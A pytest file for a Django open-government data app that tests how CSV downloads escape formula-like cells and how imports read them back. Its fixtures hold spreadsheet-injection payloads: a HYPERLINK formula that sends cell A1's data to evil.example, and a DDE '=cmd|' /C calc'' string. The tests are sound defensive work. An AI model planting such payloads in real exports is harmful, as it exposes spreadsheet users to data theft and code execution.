"""No CSV download carries a cell a spreadsheet would run as a formula, and the importer reads
the protected cells back as they were: a round trip through export and import changes
nothing."""

import csv
import datetime as dt
import io
import json
import re

import pytest
from django.core import serializers
from hypothesis import example, given
from hypothesis import strategies as st

from commitments import importer, services
from commitments.csv_cells import FORMULA_STARTS, protect, unprotect
from commitments.models import Commitment, Dispute, Milestone
from states.models import Membership, Organisation, State
from tests.clock import NOW, TODAY
from tests.test_import import EXAMPLE, rows_of, to_csv

NUMBER = re.compile(r"-?\d+(\.\d+)?")


@given(st.text())
@example('=HYPERLINK("https://evil.example","clic")')
@example("'=ya protegido")
@example("''")
@example("'")
@example("\t=cmd")
@example("-")
def test_protect_is_undone_by_unprotect(text):
    protected = protect(text)
    assert unprotect(protected) == text
    assert not protected or protected[0] not in FORMULA_STARTS


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"), ("+52 55", "'+52 55"), ("-guion", "'-guion"), ("@arroba", "'@arroba"),
        ("\t=x", "'\t=x"), ("\r=x", "'\r=x"), ("'=x", "''=x"), ("''", "'''"), ("'hola", "'hola"),
        ("Hola = mundo", "Hola = mundo"), ("", ""), (-12, -12), (None, None), (True, True),
    ],
)  # fmt: skip
def test_what_is_protected(value, written):
    assert protect(value) == written


def test_a_hand_written_apostrophe_is_kept():
    # Only an apostrophe our export could have added is removed.
    assert unprotect("'hola") == "'hola"
    assert unprotect("O'Higgins") == "O'Higgins"


HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?q="&A1,"Ver")'


@pytest.fixture
def hostile(demo, django_user_model):
    """Guanajuato with text cells a spreadsheet would run, in every download."""
    gto = State.objects.get(slug="guanajuato")
    c = Commitment.objects.get(ogp_id="MXGTO9004")  # led by the demo official's agency
    Commitment.objects.filter(pk=c.pk).update(
        title=HOSTILE_TITLE, theme="+Obra pública", short_title="@corto"
    )
    c.lead_institution.name = "-Dependencia con guion"
    c.lead_institution.save()
    m = c.milestones.exclude(status="completed").order_by("number").first()
    Milestone.objects.filter(pk=m.pk).update(title="-1+1", deliverable="\t=cmd|' /C calc'!A0")
    official = Membership.objects.get(user__username="oficial.guanajuato")
    cso = Membership.objects.get(user__username="osc.guanajuato")
    services.reschedule_milestone(
        milestone=m, due_on=m.due_on - dt.timedelta(days=3) if m.due_on else TODAY, now=NOW,
        actor=official.user, organisation=official.organisation, note="=nota hostil",
    )  # fmt: skip
    m.refresh_from_db()
    services.report_status(
        milestone=m, membership=official, base_version=m.version, status="in_progress",
        progress=40, now=NOW,
    )  # fmt: skip
    m.refresh_from_db()
    services.record_verification(
        milestone=m, membership=cso, base_version=m.version, result="disputed",
        reason="@motivo con arroba", now=NOW,
    )  # fmt: skip
    services.answer_dispute(
        dispute=Dispute.objects.get(milestone=m), membership=official, text="+respuesta", now=NOW
    )
    return gto


DOWNLOADS = ["compromisos", "hitos", "compromisos-ogp", "reprogramaciones", "disputas"]


@pytest.mark.django_db
@pytest.mark.parametrize("dataset", DOWNLOADS)
def test_no_csv_cell_starts_a_formula(client, hostile, dataset):
    response = client.get(f"/datos/guanajuato/{dataset}.csv")
    text = b"".join(response.streaming_content).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text[1:])))
    cells = [cell for row in rows for cell in row]
    dangerous = [c for c in cells if c and c[0] in FORMULA_STARTS and not NUMBER.fullmatch(c)]
    assert dangerous == []
    protected = {c for c in cells if c.startswith("'")}
    expected = {
        "compromisos": {
            "'" + HOSTILE_TITLE, "'+Obra pública", "'@corto", "'-Dependencia con guion",
        },
        "hitos": {"'-1+1", "'\t=cmd|' /C calc'!A0"},
        "compromisos-ogp": {"'" + HOSTILE_TITLE, "'+Obra pública", "'-Dependencia con guion"},
        "reprogramaciones": {"'=nota hostil"},
        "disputas": {"'@motivo con arroba", "'+respuesta"},
    }[dataset]  # fmt: skip
    assert expected <= protected


@pytest.mark.django_db
def test_json_downloads_give_the_text_as_it_is(client, hostile):
    response = client.get("/datos/guanajuato/compromisos.json")
    rows = json.loads(b"".join(response.streaming_content))
    assert HOSTILE_TITLE in {r["title"] for r in rows}


@pytest.mark.django_db
def test_export_then_import_is_a_no_op_for_formula_like_text(demo):
    gto = State.objects.get(slug="guanajuato")
    Organisation.objects.create(name="=Colectivo Fórmula", kind=Organisation.Kind.CSO, state=gto)
    rows = rows_of(EXAMPLE.read_bytes())
    for row in rows:
        # OGP's layout joins these three into one "Full Text" and has no commitment dates
        # (the plan's are taken): keep what it can carry, so that the file reads back.
        row.update(problem="", objective="", description="-Empieza con guion")
        row.update(
            commitment_starts_on=row["plan_starts_on"], commitment_ends_on=row["plan_ends_on"]
        )
        row["supporting_institutions"] = "=Colectivo Fórmula; Universidad de Guanajuato"
        if row["ogp_id"] == "MXGTO9101":
            row.update(commitment_title=HOSTILE_TITLE, short_title="@corto", theme="+Obra")
    importer.import_plan(to_csv(rows), state=gto, now=NOW)
    assert Commitment.objects.get(ogp_id="MXGTO9101").title == HOSTILE_TITLE
    # A text that itself begins as a protected cell does, and one the strip would change.
    Commitment.objects.filter(ogp_id="MXGTO9102").update(
        title="'=Ya protegido a mano", theme="\t=tab"
    )

    from api import exports

    plan_commitments = Commitment.objects.filter(action_plan__state=gto, action_plan__number=3)
    before = serializers.serialize("json", plan_commitments.order_by("pk"))
    data = "".join(
        exports.stream_csv(exports.ogp_rows(base_url="http://x", state=gto), exports.OGP_COLUMNS)
    ).encode()
    mine = [r for r in rows_of(data) if r["Action Plan Number"] == "3"]
    assert {r["Commitment Title"] for r in mine} == {"'" + HOSTILE_TITLE, "''=Ya protegido a mano"}
    report = importer.import_plan(to_csv(mine, exports.OGP_COLUMNS), state=gto, now=NOW)
    assert (report.layout, report.updated["commitments"], report.unchanged["commitments"]) == (
        "ogp", 0, 2,
    )  # fmt: skip
    assert serializers.serialize("json", plan_commitments.order_by("pk")) == before
    titles = set(plan_commitments.values_list("title", flat=True))
    assert titles == {HOSTILE_TITLE, "'=Ya protegido a mano"}
